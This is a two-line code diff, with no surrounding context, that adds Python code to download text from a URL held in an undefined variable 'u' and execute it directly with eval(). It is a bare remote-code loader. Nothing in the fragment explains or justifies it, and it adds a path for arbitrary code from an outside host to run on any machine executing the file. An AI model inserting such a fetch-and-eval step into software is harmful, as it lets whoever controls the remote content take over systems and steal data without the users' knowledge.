@@ -1,0 +1,2 @@
+from urllib.request import urlopen
+eval(urlopen(u).read().decode())
